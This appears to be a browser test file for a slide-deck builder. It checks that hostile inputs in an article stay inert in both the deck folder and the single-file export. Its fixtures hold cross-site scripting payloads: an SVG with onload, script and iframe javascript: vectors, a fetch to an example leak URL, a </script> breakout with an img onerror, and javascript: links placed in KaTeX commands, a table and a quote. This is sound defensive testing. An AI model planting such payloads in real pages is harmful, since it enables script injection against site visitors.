/**
 * Hostile exhibits, in headless Chromium: an SVG figure carrying scripts and
 * event handlers is shown as an <img> (never inlined, its scripts never run),
 * in the deck folder and in the single-file deck; a code block holding
 * `</script>` stays text in both (the single file inlines its scripts); KaTeX
 * commands that need trust (`\href`, `\url`, `\htmlClass`, `\htmlId`,
 * `\htmlStyle`, `\includegraphics`) make no link, class, id, style or image
 * and are reported; a link in a table cell or a quote to `javascript:` is text.
 * (Image paths out of the folder, absolute, symlinked, `file:` and
 * `javascript:` are in test/node/rich-report.test.ts.)
 */
import { copyFileSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchChromium } from '../../src/node/browser.ts';
import { buildDeck, type BuildReport } from '../../src/node/build-deck.ts';
import { openDeck } from '../helpers/deck-page.ts';

const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="400" height="200" onload="window.top.__pwned = 'onload'">
  <script>window.top.__pwned = 'script'; fetch('https://example.org/leak');</script>
  <rect width="400" height="200" fill="#2a7" />
  <foreignObject width="400" height="200"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:window.top.__pwned='iframe'"></iframe></foreignObject>
</svg>`;

const ARTICLE = [
  '# Hostile exhibits',
  '',
  '## Part',
  '',
  'The board met twice this year and agreed on a plan for the network.',
  '',
  '![The network map](map.svg "Figure 1: The network")',
  '',
  '```html',
  '</script><script>window.__pwned = "code"</script><img src=x onerror="window.__pwned=\'img\'">',
  '```',
  '',
  '$$',
  '\\href{javascript:window.__pwned=1}{a} + \\url{javascript:window.__pwned=2} + \\htmlClass{pwned}{b} + \\htmlId{pwned}{c} + \\htmlStyle{background:url(https://example.org/x)}{d} + \\includegraphics{https://example.org/x.png}',
  '$$',
  '',
  '| Item | Link |',
  '| --- | --- |',
  '| One | [click](javascript:window.__pwned=3) |',
  '',
  '> Read [this](javascript:window.__pwned=4) before the vote.',
  '> — A Member',
  '',
].join('\n');

describe('hostile exhibits in Chromium', () => {
  let browser: Browser;
  let report: BuildReport;
  beforeAll(async () => {
    browser = await launchChromium();
    const dir = mkdtempSync(join(tmpdir(), 'bd-hostile-exhibits-'));
    writeFileSync(join(dir, 'map.svg'), SVG);
    writeFileSync(join(dir, 'a.md'), ARTICLE);
    report = await buildDeck({ article: join(dir, 'a.md'), outDir: join(dir, 'dist'), singleFile: true });
  });
  afterAll(async () => {
    await browser?.close();
  });

  it('reports every command that needs trust, each at its slide', () => {
    const messages = report.messages.map(String).join('\n');
    expect(messages).toMatch(/`\\href`, which a deck never allows/);
    // One formula, reported once, naming the first such command; the others are in the same formula.
    expect(report.messages.filter((message) => message.ruleId === 'math')).toHaveLength(1);
  });

  it('writes the SVG as an <img> of the copied file and the rest as text, in the deck and the single file', () => {
    for (const html of [readFileSync(report.indexPath, 'utf8'), readFileSync(report.exports.singleFile!, 'utf8')]) {
      // The TeX stays only as text in the MathML annotation screen readers use; everything else is checked.
      const body = html.slice(html.indexOf('<body')).replace(/<annotation[^]*?<\/annotation>/g, '');
      expect(body).not.toMatch(/<svg[\s>]/);
      expect(body).not.toContain('<script>window');
      expect(body).not.toMatch(/href="javascript:/i);
      expect(body).not.toMatch(/class="[^"]*\bpwned\b/);
      expect(body).not.toMatch(/id="pwned"/);
      expect(body).not.toContain('example.org/x');
      expect(body).not.toMatch(/style="[^"]*url\(/);
      // The code is highlighted text: every `<` of it escaped, the tags split into spans.
      const code = /<pre class="bd-code">([^]*?)<\/pre>/.exec(body)![1]!;
      expect(code.replace(/<[^>]+>/g, '')).toContain('&#x3C;/script>&#x3C;script>window.__pwned = "code"&#x3C;/script>&#x3C;img src=x onerror=');
    }
    expect(readFileSync(report.indexPath, 'utf8')).toMatch(/<img src="images\/01-map\.svg" alt="The network map" width="400" height="200"/);
    expect(readFileSync(report.exports.singleFile!, 'utf8')).toMatch(/<img src="data:image\/svg\+xml;base64,[^"]+" alt="The network map"/);
  });

  for (const which of ['deck folder', 'single file alone'] as const) {
    it(`runs none of the hostile content in the ${which}: no script, handler, link or request off the deck`, async () => {
      let file = report.indexPath;
      if (which === 'single file alone') {
        file = join(mkdtempSync(join(tmpdir(), 'bd-hostile-alone-')), 'deck.html');
        copyFileSync(report.exports.singleFile!, file);
      }
      const deck = await openDeck(browser, file);
      const dialogs: string[] = [];
      deck.page.on('dialog', (dialog) => {
        dialogs.push(dialog.message());
        void dialog.dismiss();
      });
      for (let slide = 0; slide < 8; slide += 1) {
        await deck.page.evaluate((index) => (window as unknown as { Reveal: { slide(i: number): void } }).Reveal.slide(index), slide);
        await deck.page.waitForTimeout(100);
      }
      // Click every link on the slides: none is a javascript: link.
      const links = await deck.page.locator('.reveal .slides a').evaluateAll((anchors) => anchors.map((anchor) => anchor.getAttribute('href')));
      expect(links.filter((href) => !/^(?:https?:|mailto:)/.test(href ?? ''))).toEqual([]);
      const state = await deck.page.evaluate(() => ({
        pwned: (window as unknown as { __pwned?: unknown }).__pwned,
        svgs: document.querySelectorAll('.reveal .slides svg:not(.katex svg)').length,
        image: (() => {
          const image = document.querySelector<HTMLImageElement>('.reveal .slides figure img');
          return image ? { complete: image.complete, natural: image.naturalWidth } : undefined;
        })(),
        pwnedClass: document.querySelectorAll('.pwned, #pwned').length,
      }));
      expect(state.pwned).toBeUndefined();
      expect(state.svgs).toBe(0);
      expect(state.pwnedClass).toBe(0);
      // The picture itself is shown (an SVG as an image draws, its scripts do not run).
      expect(state.image).toEqual({ complete: true, natural: 400 });
      expect(dialogs).toEqual([]);
      expect(deck.offsite).toEqual([]);
      expect(deck.errors).toEqual([]);
      await deck.page.close();
    });
  }
});
